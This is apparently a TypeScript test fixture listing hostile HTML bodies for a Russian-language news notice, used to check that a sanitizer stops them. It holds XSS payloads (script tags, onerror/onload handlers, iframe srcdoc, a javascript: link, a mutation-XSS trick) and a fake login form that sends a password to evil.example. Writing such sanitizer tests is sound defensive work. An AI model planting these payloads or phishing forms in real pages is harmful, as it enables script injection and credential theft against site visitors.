/**
 * The body of a piece of news whose author, or whoever took the author's password, put more into it than words. Nothing of
 * it may run in a resident's browser (V-04); what can be read stays readable.
 */
export const hostileBody: readonly string[] = [
  'Специалист проверит тягу на кухне и в ванной. Это бесплатно и занимает пять минут.',
  '<script>document.title = "взломано"; window.hacked = true</script>',
  '<img src="нет" onerror="window.hacked = true" alt="Решётка вентиляции">',
  '<svg onload="window.hacked = true"><use href="data:image/svg+xml,<svg id=x onload=hacked=1></svg>#x"></use></svg>',
  '<p onclick="window.hacked = true" style="position:fixed;inset:0;z-index:9999" id="main">Подготовьте доступ к решёткам.</p>',
  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password" type="password"><button>Войдите снова</button></form>',
  '<p>Удобное время выберите <a href="javascript:window.hacked = true">здесь</a> или на <a href="https://example.org/ventilation">сайте подрядчика</a>.</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=true&gt;"></table></mtext></math>',
]
